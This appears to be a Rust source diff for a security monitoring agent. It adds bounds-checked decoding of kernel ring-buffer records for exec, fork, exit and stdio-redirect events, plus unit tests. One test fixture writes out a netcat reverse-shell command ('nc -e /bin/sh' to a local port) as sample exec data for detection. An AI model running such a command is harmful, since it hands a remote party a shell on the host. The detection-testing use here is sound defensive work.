@@ -1,0 +1,435 @@
+//! Bounds-checked decoding of ring-buffer records into typed [`Event`]s.
+//!
+//! Nothing here trusts the kernel's bytes: a short record, an unknown kind, a foreign schema
+//! version or a length field past its buffer is a [`DecodeError`] (counted by the caller), never
+//! a panic and never an out-of-bounds read.
+
+use std::{
+    mem::size_of,
+    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
+};
+
+use agent_common::{
+    exec_flags, EventHeader, EventKind, ExecRecord, ExitRecord, ForkRecord, RedirectRecord,
+    StdioRaw, ARGV_MAX, EXE_BUF, NAME_READ_MAX, SCHEMA_VERSION,
+};
+
+use crate::{
+    event::{
+        Event, EventBody, Exec, Exit, Fork, ProcessKey, RawStr, RedirectVia, SocketProto, Stdio,
+        StdioRedirect,
+    },
+    process::procfs::classify,
+};
+
+/// At most this many arguments are kept per exec; more sets `argv_truncated`.
+pub const ARGV_MAX_ARGS: usize = 32;
+
+const AF_UNIX: u16 = 1;
+const AF_INET: u16 = 2;
+const AF_INET6: u16 = 10;
+const S_IFMT: u16 = 0o170000;
+const S_IFSOCK: u16 = 0o140000;
+
+/// Why a record was refused.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum DecodeError {
+    /// Fewer bytes than the header or than the kind's layout.
+    #[error("short record: {got} bytes, need {need}")]
+    Short {
+        /// Bytes present.
+        got: usize,
+        /// Bytes needed.
+        need: usize,
+    },
+    /// A kind this agent does not know.
+    #[error("unknown record kind {0}")]
+    UnknownKind(u16),
+    /// Written by programs of another schema version.
+    #[error("record schema version {got}, agent speaks {SCHEMA_VERSION}")]
+    Version {
+        /// Version in the record.
+        got: u16,
+    },
+    /// The header's size disagrees with the kind's layout.
+    #[error("record size field {size} does not match kind {kind} ({expected} bytes)")]
+    SizeMismatch {
+        /// Kind.
+        kind: u16,
+        /// Size in the header.
+        size: u32,
+        /// Size of the layout.
+        expected: usize,
+    },
+    /// A field holds a value outside its domain.
+    #[error("bad field {field}: {value}")]
+    BadField {
+        /// Field name.
+        field: &'static str,
+        /// Offending value.
+        value: u64,
+    },
+}
+
+/// Copy a plain-data record out of `buf`, which must hold at least `size_of::<T>()` bytes.
+fn read_record<T: Copy>(buf: &[u8]) -> Result<T, DecodeError> {
+    if buf.len() < size_of::<T>() {
+        return Err(DecodeError::Short { got: buf.len(), need: size_of::<T>() });
+    }
+    // SAFETY: length checked above; T is a #[repr(C)] plain-data record from agent-common for
+    // which every bit pattern is valid; read_unaligned copes with any alignment.
+    Ok(unsafe { std::ptr::read_unaligned(buf.as_ptr().cast::<T>()) })
+}
+
+/// Decode one ring-buffer record.
+pub fn decode(buf: &[u8]) -> Result<Event, DecodeError> {
+    let header: EventHeader = read_record(buf)?;
+    if header.version != SCHEMA_VERSION {
+        return Err(DecodeError::Version { got: header.version });
+    }
+    let kind = EventKind::from_u16(header.kind).ok_or(DecodeError::UnknownKind(header.kind))?;
+    let expected = match kind {
+        EventKind::Exec => size_of::<ExecRecord>(),
+        EventKind::Fork => size_of::<ForkRecord>(),
+        EventKind::Exit => size_of::<ExitRecord>(),
+        EventKind::StdioRedirect => size_of::<RedirectRecord>(),
+    };
+    if header.size as usize != expected {
+        return Err(DecodeError::SizeMismatch { kind: header.kind, size: header.size, expected });
+    }
+    let body = match kind {
+        EventKind::Exec => EventBody::Exec(decode_exec(&read_record::<ExecRecord>(buf)?)?),
+        EventKind::Fork => {
+            let r: ForkRecord = read_record(buf)?;
+            EventBody::Fork(Fork { parent: ProcessKey::from_boot_ns(r.ppid, r.parent_start_boot_ns) })
+        }
+        EventKind::Exit => {
+            let r: ExitRecord = read_record(buf)?;
+            EventBody::Exit(Exit { code: r.exit_code })
+        }
+        EventKind::StdioRedirect => {
+            let r: RedirectRecord = read_record(buf)?;
+            let via = agent_common::RedirectVia::from_u16(r.via)
+                .ok_or(DecodeError::BadField { field: "via", value: r.via.into() })?;
+            if r.fd > 2 {
+                return Err(DecodeError::BadField { field: "fd", value: r.fd.into() });
+            }
+            EventBody::StdioRedirect(StdioRedirect {
+                via: match via {
+                    agent_common::RedirectVia::Dup => RedirectVia::Dup,
+                    agent_common::RedirectVia::Dup2 => RedirectVia::Dup2,
+                    agent_common::RedirectVia::Dup3 => RedirectVia::Dup3,
+                    agent_common::RedirectVia::Connect => RedirectVia::Connect,
+                    agent_common::RedirectVia::Fcntl => RedirectVia::Fcntl,
+                },
+                fd: r.fd as u8,
+                old_fd: r.old_fd,
+                target: decode_stdio(&r.target),
+            })
+        }
+    };
+    Ok(Event {
+        ts_boot_ns: header.ts_boot_ns,
+        process: ProcessKey::from_boot_ns(header.tgid, header.start_boot_ns),
+        tid: header.pid,
+        cgroup_id: header.cgroup_id,
+        body,
+    })
+}
+
+fn decode_exec(r: &ExecRecord) -> Result<Exec, DecodeError> {
+    let argv_len = usize::from(r.argv_len);
+    if argv_len > ARGV_MAX {
+        return Err(DecodeError::BadField { field: "argv_len", value: argv_len as u64 });
+    }
+    let exe_len = usize::from(r.exe_len);
+    if exe_len > EXE_BUF {
+        return Err(DecodeError::BadField { field: "exe_len", value: exe_len as u64 });
+    }
+    let filename_len = usize::from(r.filename_len);
+    if filename_len > NAME_READ_MAX {
+        return Err(DecodeError::BadField { field: "filename_len", value: filename_len as u64 });
+    }
+    let (argv, cut) = split_argv(&r.argv[..argv_len]);
+    let exe = join_components(&r.exe[..exe_len]);
+    let exe_unreadable = r.flags & exec_flags::EXE_UNREADABLE != 0 || exe.is_empty();
+    Ok(Exec {
+        parent: ProcessKey::from_boot_ns(r.ppid, r.parent_start_boot_ns),
+        uid: r.uid,
+        gid: r.gid,
+        pid_ns: r.pid_ns,
+        comm: RawStr(until_nul(&r.comm).to_vec()),
+        filename: RawStr(until_nul(&r.filename[..filename_len]).to_vec()),
+        exe: if exe_unreadable { RawStr(until_nul(&r.filename[..filename_len]).to_vec()) } else { exe },
+        exe_truncated: r.flags & exec_flags::EXE_TRUNCATED != 0 || exe_unreadable,
+        argv,
+        argv_truncated: cut || r.flags & exec_flags::ARGV_TRUNCATED != 0,
+        stdio: [decode_stdio(&r.stdio[0]), decode_stdio(&r.stdio[1]), decode_stdio(&r.stdio[2])],
+    })
+}
+
+fn until_nul(b: &[u8]) -> &[u8] {
+    match b.iter().position(|&c| c == 0) {
+        Some(i) => &b[..i],
+        None => b,
+    }
+}
+
+/// Split NUL-separated argv bytes; returns the arguments and whether the count limit cut them.
+pub fn split_argv(bytes: &[u8]) -> (Vec<RawStr>, bool) {
+    let bytes = bytes.strip_suffix(&[0]).unwrap_or(bytes);
+    if bytes.is_empty() {
+        return (Vec::new(), false);
+    }
+    let mut out = Vec::with_capacity(4);
+    for (i, part) in bytes.split(|&b| b == 0).enumerate() {
+        if i == ARGV_MAX_ARGS {
+            return (out, true);
+        }
+        out.push(RawStr(part.to_vec()));
+    }
+    (out, false)
+}
+
+/// Join path components written leaf first, each NUL-terminated, into an absolute path.
+pub fn join_components(bytes: &[u8]) -> RawStr {
+    let mut parts: Vec<&[u8]> = bytes.split(|&b| b == 0).filter(|p| !p.is_empty()).collect();
+    if parts.is_empty() {
+        return RawStr::default();
+    }
+    parts.reverse();
+    let mut path = Vec::with_capacity(bytes.len() + 1);
+    for p in parts {
+        path.push(b'/');
+        path.extend_from_slice(p);
+    }
+    RawStr(path)
+}
+
+/// Turn what the kernel saw at an fd into a [`Stdio`].
+pub fn decode_stdio(raw: &StdioRaw) -> Stdio {
+    if raw.mode == 0 {
+        return Stdio::Closed;
+    }
+    if raw.mode & S_IFMT != S_IFSOCK {
+        return classify(raw.mode, raw.ino, raw.rdev).unwrap_or(Stdio::Other { mode: raw.mode, rdev: raw.rdev });
+    }
+    let proto = match raw.sock_type {
+        1 => SocketProto::Tcp,
+        2 => SocketProto::Udp,
+        3 => SocketProto::Raw,
+        _ => SocketProto::Other,
+    };
+    match raw.family {
+        AF_INET => {
+            let ip = |a: &[u8; 16]| IpAddr::V4(Ipv4Addr::new(a[0], a[1], a[2], a[3]));
+            Stdio::Inet {
+                proto,
+                local: SocketAddr::new(ip(&raw.local_addr), raw.local_port),
+                remote: SocketAddr::new(ip(&raw.remote_addr), raw.remote_port),
+                ino: raw.ino,
+            }
+        }
+        AF_INET6 => {
+            let ip = |a: &[u8; 16]| {
+                let v6 = Ipv6Addr::from(*a);
+                // Show v4-mapped peers as IPv4: the attacker's address is what matters.
+                match v6.to_ipv4_mapped() {
+                    Some(v4) => IpAddr::V4(v4),
+                    None => IpAddr::V6(v6),
+                }
+            };
+            Stdio::Inet {
+                proto,
+                local: SocketAddr::new(ip(&raw.local_addr), raw.local_port),
+                remote: SocketAddr::new(ip(&raw.remote_addr), raw.remote_port),
+                ino: raw.ino,
+            }
+        }
+        AF_UNIX => Stdio::Unix { ino: raw.ino },
+        family => Stdio::OtherSocket { family, ino: raw.ino },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn as_bytes<T: Copy>(v: &T) -> Vec<u8> {
+        // SAFETY: test helper over plain-data records.
+        unsafe { std::slice::from_raw_parts((v as *const T).cast::<u8>(), size_of::<T>()) }.to_vec()
+    }
+
+    fn header(kind: EventKind, size: usize) -> EventHeader {
+        EventHeader {
+            kind: kind as u16,
+            version: SCHEMA_VERSION,
+            size: size as u32,
+            ts_boot_ns: 5_000_000_000,
+            pid: 4242,
+            tgid: 4242,
+            start_boot_ns: 1_234_560_000_000,
+            cgroup_id: 777,
+        }
+    }
+
+    fn exec_record() -> Box<ExecRecord> {
+        // SAFETY: all-zero is a valid value for this plain-data record.
+        let mut r: Box<ExecRecord> = Box::new(unsafe { std::mem::zeroed() });
+        r.header = header(EventKind::Exec, size_of::<ExecRecord>());
+        r.ppid = 1;
+        r.parent_start_boot_ns = 10_000_000;
+        r.uid = 1000;
+        r.gid = 1000;
+        r.comm[..2].copy_from_slice(b"nc");
+        let argv = b"nc\0-e\0/bin/sh\x00127.0.0.1\x004444\0";
+        r.argv[..argv.len()].copy_from_slice(argv);
+        r.argv_len = argv.len() as u16;
+        let exe = b"nc.traditional\0bin\0usr\0";
+        r.exe[..exe.len()].copy_from_slice(exe);
+        r.exe_len = exe.len() as u16;
+        let fname = b"/bin/nc\0";
+        r.filename[..fname.len()].copy_from_slice(fname);
+        r.filename_len = 7;
+        r.stdio[0] = StdioRaw {
+            mode: S_IFSOCK | 0o777,
+            family: AF_INET,
+            sock_type: 1,
+            local_port: 40000,
+            remote_port: 4444,
+            ino: 99,
+            local_addr: [127, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
+            remote_addr: [127, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
+            ..Default::default()
+        };
+        r.stdio[1] = StdioRaw { mode: 0o010600, ino: 55, ..Default::default() };
+        r.stdio[2] = StdioRaw { mode: 0o020620, rdev: (136 << 20) | 3, ..Default::default() };
+        r
+    }
+
+    #[test]
+    fn decodes_exec_field_by_field() {
+        let ev = decode(&as_bytes(&*exec_record())).unwrap();
+        assert_eq!(ev.process, ProcessKey { pid: 4242, start: 123_456 });
+        assert_eq!(ev.cgroup_id, 777);
+        assert_eq!(ev.ts_boot_ns, 5_000_000_000);
+        let EventBody::Exec(e) = ev.body else { panic!("not exec") };
+        assert_eq!(e.parent, ProcessKey { pid: 1, start: 1 });
+        assert_eq!(e.exe.as_bytes(), b"/usr/bin/nc.traditional");
+        assert_eq!(e.filename.as_bytes(), b"/bin/nc");
+        assert_eq!(e.comm.as_bytes(), b"nc");
+        let argv: Vec<_> = e.argv.iter().map(|a| a.to_string()).collect();
+        assert_eq!(argv, ["nc", "-e", "/bin/sh", "127.0.0.1", "4444"]);
+        assert!(!e.argv_truncated && !e.exe_truncated);
+        assert_eq!(
+            e.stdio[0],
+            Stdio::Inet {
+                proto: SocketProto::Tcp,
+                local: "127.0.0.1:40000".parse().unwrap(),
+                remote: "127.0.0.2:4444".parse().unwrap(),
+                ino: 99
+            }
+        );
+        assert_eq!(e.stdio[1], Stdio::Pipe { ino: 55 });
+        assert_eq!(e.stdio[2], Stdio::Tty { rdev: (136 << 20) | 3 });
+    }
+
+    #[test]
+    fn short_and_unknown_records_are_errors() {
+        let bytes = as_bytes(&*exec_record());
+        for len in [0, 1, 39, 40, 41, bytes.len() - 1] {
+            assert!(matches!(decode(&bytes[..len]), Err(DecodeError::Short { .. })), "len {len}");
+        }
+        let mut h = header(EventKind::Fork, size_of::<ForkRecord>());
+        h.kind = 999;
+        assert_eq!(decode(&as_bytes(&h)), Err(DecodeError::UnknownKind(999)));
+        let mut h = header(EventKind::Exit, size_of::<ExitRecord>());
+        h.version = SCHEMA_VERSION + 1;
+        assert!(matches!(decode(&as_bytes(&h)), Err(DecodeError::Version { .. })));
+        let mut r = ExitRecord { header: header(EventKind::Exit, 12345), ..Default::default() };
+        assert!(matches!(decode(&as_bytes(&r)), Err(DecodeError::SizeMismatch { .. })));
+        r.header.size = size_of::<ExitRecord>() as u32;
+        r.exit_code = 256;
+        assert_eq!(decode(&as_bytes(&r)).unwrap().body, EventBody::Exit(Exit { code: 256 }));
+    }
+
+    #[test]
+    fn bad_lengths_are_refused_not_read() {
+        let mut r = exec_record();
+        r.argv_len = (ARGV_MAX + 1) as u16;
+        assert!(matches!(decode(&as_bytes(&*r)), Err(DecodeError::BadField { field: "argv_len", .. })));
+        let mut r = exec_record();
+        r.exe_len = u16::MAX;
+        assert!(matches!(decode(&as_bytes(&*r)), Err(DecodeError::BadField { field: "exe_len", .. })));
+        let mut redirect = RedirectRecord {
+            header: header(EventKind::StdioRedirect, size_of::<RedirectRecord>()),
+            via: 2,
+            fd: 7,
+            ..Default::default()
+        };
+        assert!(matches!(decode(&as_bytes(&redirect)), Err(DecodeError::BadField { field: "fd", .. })));
+        redirect.fd = 0;
+        redirect.via = 77;
+        assert!(matches!(decode(&as_bytes(&redirect)), Err(DecodeError::BadField { field: "via", .. })));
+    }
+
+    #[test]
+    fn non_utf8_argv_and_paths_survive_and_round_trip() {
+        let mut r = exec_record();
+        let argv = b"/tmp/\xff\xfe\0-x\0";
+        r.argv[..argv.len()].copy_from_slice(argv);
+        r.argv_len = argv.len() as u16;
+        let exe = b"b\xc3\x28d\0tmp\0";
+        r.exe[..exe.len()].copy_from_slice(exe);
+        r.exe_len = exe.len() as u16;
+        let ev = decode(&as_bytes(&*r)).unwrap();
+        let EventBody::Exec(e) = &ev.body else { panic!() };
+        assert_eq!(e.argv[0].as_bytes(), b"/tmp/\xff\xfe");
+        assert_eq!(e.exe.as_bytes(), b"/tmp/b\xc3\x28d");
+        let json = serde_json::to_string(&ev).unwrap();
+        let back: Event = serde_json::from_str(&json).unwrap();
+        assert_eq!(back, ev);
+    }
+
+    #[test]
+    fn argv_truncation_by_bytes_and_count() {
+        let mut r = exec_record();
+        r.flags = exec_flags::ARGV_TRUNCATED;
+        let EventBody::Exec(e) = decode(&as_bytes(&*r)).unwrap().body else { panic!() };
+        assert!(e.argv_truncated);
+
+        let many: Vec<u8> = (0..40).flat_map(|i| format!("a{i}\0").into_bytes()).collect();
+        let (argv, cut) = split_argv(&many);
+        assert_eq!(argv.len(), ARGV_MAX_ARGS);
+        assert!(cut);
+        assert_eq!(argv[31].as_bytes(), b"a31");
+        let (argv, cut) = split_argv(b"only\0");
+        assert_eq!((argv.len(), cut), (1, false));
+        // Empty arguments in the middle are real arguments (`printf ''`).
+        let (argv, _) = split_argv(b"printf\0\0x\0");
+        assert_eq!(argv.len(), 3);
+    }
+
+    #[test]
+    fn unreadable_exe_falls_back_to_filename() {
+        let mut r = exec_record();
+        r.exe_len = 0;
+        r.flags = exec_flags::EXE_UNREADABLE;
+        let EventBody::Exec(e) = decode(&as_bytes(&*r)).unwrap().body else { panic!() };
+        assert_eq!(e.exe.as_bytes(), b"/bin/nc");
+        assert!(e.exe_truncated);
+    }
+
+    #[test]
+    fn ipv6_and_v4_mapped_sockets() {
+        let mut raw = StdioRaw { mode: S_IFSOCK, family: AF_INET6, sock_type: 1, ..Default::default() };
+        raw.remote_addr = Ipv6Addr::LOCALHOST.octets();
+        raw.remote_port = 22;
+        assert_eq!(decode_stdio(&raw).remote(), Some("[::1]:22".parse().unwrap()));
+        raw.remote_addr = Ipv4Addr::new(10, 1, 2, 3).to_ipv6_mapped().octets();
+        assert_eq!(decode_stdio(&raw).remote(), Some("10.1.2.3:22".parse().unwrap()));
+        raw.family = AF_UNIX;
+        assert_eq!(decode_stdio(&raw), Stdio::Unix { ino: 0 });
+        assert_eq!(decode_stdio(&StdioRaw::default()), Stdio::Closed);
+    }
+}
